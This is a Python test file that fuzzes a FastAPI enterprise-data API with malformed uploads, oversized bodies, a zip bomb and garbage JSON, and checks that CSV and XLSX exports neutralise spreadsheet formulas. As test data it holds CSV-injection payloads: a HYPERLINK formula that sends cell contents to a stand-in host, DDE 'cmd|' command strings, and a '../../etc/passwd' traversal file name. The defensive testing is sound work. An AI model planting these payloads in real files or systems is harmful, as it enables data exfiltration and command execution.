"""Hostile requests to the API: malformed uploads and JSON, oversized bodies, formula and path tricks.

Never a 5xx, never a partial write; spreadsheet exports neutralise formulas; no path leaves its
directory.
"""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.api.main import create_app
from app.settings import Settings
from tests.api.conftest import KEYS
from tests.trust.hostile import csv_files, xlsx_files, zip_bomb

ADMIN = {"X-API-Key": KEYS["admin"]}
RISKY = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {"b1": '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "c2": "+SUM(1,2)", "d1": "-2+3+cmd|' /C calc'!A0",
            "e1": "@SUM(A1:A9)"}
HYPO = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def snapshot(client) -> tuple:
    ds = client.app.state.store.export()
    return ds.enterprises, ds.links, ds.supply


@HYPO
@given(data=st.one_of(csv_files(), xlsx_files(), st.binary(max_size=400)),
       kind=st.sampled_from(["enterprises", "enterprise_nodes", "supply", "bogus"]),
       name=st.sampled_from(["e.csv", "e.xlsx", "../../etc/passwd", "", "a" * 300]))
def test_post_imports_never_crashes_and_refusals_write_nothing(client, data, kind, name):
    before = snapshot(client)
    r = client.post("/imports", headers=ADMIN, files={"file": (name, data, "application/octet-stream")}, data={"kind": kind})
    assert r.status_code < 500, r.text
    if r.status_code >= 400:
        assert r.headers["content-type"].startswith("application/problem+json")
        assert r.json()["detail"]
        assert snapshot(client) == before


JSON_VALUES = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
                           | st.text(max_size=20),
                           lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
                           max_leaves=10)
FIELDS = st.dictionaries(st.sampled_from(["id", "name", "region_code", "uscc", "tags", "revenue", "employees", "status",
                                          "parent_id", "links", "founded", "region", "add", "node_id"]), JSON_VALUES, max_size=6)


@HYPO
@given(body=st.one_of(FIELDS, JSON_VALUES), target=st.sampled_from(
    ["POST /enterprises", "PATCH /enterprises/a1", "POST /chains/toy/whatif", "POST /review/a1/toy.a/accept"]))
def test_json_endpoints_answer_4xx_to_garbage(client, body, target):
    method, path = target.split()
    before = snapshot(client)
    r = client.request(method, path, headers=ADMIN, json=body)
    assert r.status_code < 500, r.text
    if r.status_code >= 400:
        assert r.headers["content-type"].startswith("application/problem+json")
        assert snapshot(client) == before


@pytest.mark.parametrize("raw", [b"{", b"[1,2", b"\xff\xfe", b'{"id": "a1"' + b" " * 10, b"null"])
def test_unparseable_json_is_a_4xx(client, raw):
    r = client.post("/enterprises", headers={**ADMIN, "Content-Type": "application/json"}, content=raw)
    assert 400 <= r.status_code < 500


def test_upload_size_limit_is_413_before_reading(toy_dir, tmp_path):
    settings = Settings(data_dir=toy_dir, state_dir=tmp_path / "s", max_upload_mb=1, api_keys=f"{KEYS['admin']}:admin")
    with TestClient(create_app(settings)) as c:
        big = b"id,name,region_code\n" + b"n1,x,510107\n" * 250_000
        r = c.post("/imports", headers=ADMIN, files={"file": ("e.csv", big, "text/csv")})
        assert r.status_code == 413 and r.headers["content-type"].startswith("application/problem+json")
        r = c.post("/imports", headers=ADMIN, files={"file": ("bomb.xlsx", zip_bomb(64), "application/octet-stream")})
        assert r.status_code == 413, r.text
        assert c.app.state.store.enterprises(["n1"]) == {}


def test_row_limit_is_413(client, monkeypatch):
    monkeypatch.setattr("app.api.routers.imports.MAX_ROWS", 5)
    rows = "id,name,region_code\n" + "".join(f"n{i},企业{i},510107\n" for i in range(6))
    r = client.post("/imports", headers=ADMIN, files={"file": ("e.csv", rows.encode(), "text/csv")})
    assert r.status_code == 413
    assert client.app.state.store.enterprises(["n0"]) == {}


def _hostile_names(client) -> None:
    for eid, name in PAYLOADS.items():
        r = client.patch(f"/enterprises/{eid}", headers=ADMIN, json={"name": name, "tags": ["=1+1", "专精特新"]})
        assert r.status_code == 200, r.text


def _assert_neutral(cells: list[str]) -> int:
    hits = 0
    for cell in cells:
        if isinstance(cell, str) and any(p[1:8] in cell for p in PAYLOADS.values()):
            hits += 1
            assert not cell.startswith(RISKY), f"formula left live: {cell!r}"
    return hits


def test_target_table_csv_and_xlsx_neutralise_formulas(client):
    _hostile_names(client)
    analyst = {"X-API-Key": KEYS["analyst"]}
    r = client.get("/chains/toy/report/targets?region=成都&format=csv", headers=analyst)
    assert r.status_code == 200, r.text
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    assert _assert_neutral(cells) >= 2
    r = client.get("/chains/toy/report/targets?region=成都&format=xlsx", headers=analyst)
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert _assert_neutral(cells) >= 2
    assert not any(isinstance(c, str) and c.startswith("=") for c in cells)
    data = client.get("/chains/toy/report/targets?region=成都&format=json", headers=analyst).json()
    dumped = json.dumps(data, ensure_ascii=False)
    assert any(p in dumped for p in PAYLOADS.values())   # JSON is not a spreadsheet: it keeps the data as it is


def test_registry_reject_and_report_files_neutralise_formulas(tmp_path):
    from app.datadir.registry.reader import read_bytes
    from app.services.import_report import write_rejects, write_report
    from app.services.imports import ImportOptions, import_registry
    from tests.fixtures.analysis_graphs import toy_store

    text = ("企业名称,所属省份,所属城市,统一社会信用代码,经营范围\n"
            '=HYPERLINK("http://evil.example","x"),四川省,成都市,=1+1,@SUM(A1)\n'
            "+cmd|' /C calc'!A0,火星省,=2+2,,-1+1\n")
    report = import_registry(toy_store(), read_bytes(text.encode(), "r.csv"), ImportOptions())
    assert report.rejected >= 1
    rejects, problems = write_rejects(report, tmp_path / "r.rejects.csv"), write_report(report, tmp_path / "r.report.csv")
    for path in (rejects, problems):
        cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]
        assert not [c for c in cells if c.startswith(RISKY)], f"{path.name}: {[c for c in cells if c.startswith(RISKY)]}"
        if path is rejects:   # the rows are kept, as text
            assert any("HYPERLINK" in c or "cmd|" in c or "=2+2" in c for c in cells)
